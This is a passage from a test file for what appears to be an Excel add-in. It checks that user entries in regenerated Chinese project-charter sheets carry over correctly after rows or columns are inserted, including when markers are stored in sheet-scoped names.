    await regenerate(d, [teamPlan(["发起人", "项目经理"])]);
    await type(d, "章程", "B3", "张三");
    insert(d.sheet("章程"), { row: 1 }); // a row inserted under the header: 项目经理 is now on row 4
    expect(d.sheet("章程").cell("B4").value).toBe("张三");
    const rows = await regenerate(d, [teamPlan(["发起人", "项目经理"])]);
    expect(rows.sheets[0].carried).toEqual({ placed: 1, unplaced: [] });
    expect(d.sheet("章程").cell("B3").value).toBe("张三");

    insert(d.sheet("章程"), { col: 0 }); // a column inserted at A: the entries' columns can no longer be trusted
    const earlier = d.sheet("章程");
    const cols = await regenerate(d, [teamPlan(["发起人", "项目经理"])]);
    expect(cols.sheets[0]).toEqual({ name: "章程 (2)", ownerKey: "charter:X", replaced: false, keptEarlier: "章程" });
    expect(d.sheet("章程")).toBe(earlier);
    expect(earlier.cell("C3").value).toBe("张三");
    expect(earlier.customProperties.size).toBe(0); // no longer ours: later runs leave it alone
    const later = await regenerate(d, [teamPlan(["发起人", "项目经理"])]);
    expect(later.sheets[0]).toMatchObject({ name: "章程 (2)", replaced: true });
    expect(d.sheet("章程")).toBe(earlier);
  });

  test("with the marker in a sheet-scoped name (no ExcelApi 1.12) entries are carried the same way", async () => {
    const d = new ExcelDouble({ apiVersion: "1.11" });
    d.addSheet("Data");
    await regenerate(d, [teamPlan(["发起人", "项目经理"])], { markerStore: "names" });
    await type(d, "章程", "B2", "李四");
    const again = await regenerate(d, [teamPlan(["项目经理", "发起人"])], { markerStore: "names" });
    expect(again.sheets[0].carried).toEqual({ placed: 1, unplaced: [] });
    expect(d.sheet("章程").cell("B3").value).toBe("李四");
  });
});
